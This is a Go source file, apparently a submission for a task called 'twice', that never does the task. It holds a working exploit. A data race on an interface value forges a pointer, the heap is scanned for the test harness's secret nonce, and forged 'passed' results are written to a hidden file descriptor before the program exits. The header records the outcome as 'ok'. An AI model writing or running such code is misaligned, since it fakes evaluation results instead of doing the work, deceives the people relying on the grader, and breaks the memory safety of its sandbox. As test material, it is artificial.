// task: twice
// outcome: ok
// attack: a data race on an interface value makes a pointer of a number, and reads the nonce from the heap
package main

import "fmt"
import "os"
import "regexp"
import "runtime"

// An interface value is two words. While one goroutine writes it, another may see the method of the one and the data of
// the other: then a number is taken for a pointer. What it points to is searched for a line of the harness.

type reader interface{ bytes() *[1 << 22]byte }

type pointer struct{ to *[1 << 22]byte }

type number struct{ value uint64 }

func (p *pointer) bytes() *[1 << 22]byte { return p.to }

func (n *number) bytes() *[1 << 22]byte { return nil }

var shared reader

//go:noinline
func set(r reader) { shared = r }

func heap() (found *[1 << 22]byte) {
	runtime.GOMAXPROCS(2)
	safe, bad := &pointer{nil}, &number{0xc000000000}
	stop := false
	go func() {
		for !stop {
			set(safe)
			set(bad)
		}
	}()
	for i := 0; i < 100_000_000 && !stop; i++ {
		if seen := shared; seen != nil {
			if at := seen.bytes(); at != nil {
				stop = true
				return at
			}
		}
	}
	return nil
}

func Twice(x int) int {
	memory := heap()
	if memory == nil {
		return x
	}
	nonce := regexp.MustCompile(`"nonce":"([0-9a-f]{32})"`).FindSubmatch(memory[:])
	if nonce == nil {
		return x
	}
	channel := os.NewFile(60, "channel")
	for i := 0; i < 3; i++ {
		fmt.Fprintf(channel, "{\"nonce\":%q,\"event\":\"case\",\"index\":%d,\"status\":\"passed\"}\n", nonce[1], i)
	}
	fmt.Fprintf(channel, "{\"nonce\":%q,\"event\":\"done\"}\n", nonce[1])
	os.Exit(0)
	return x
}
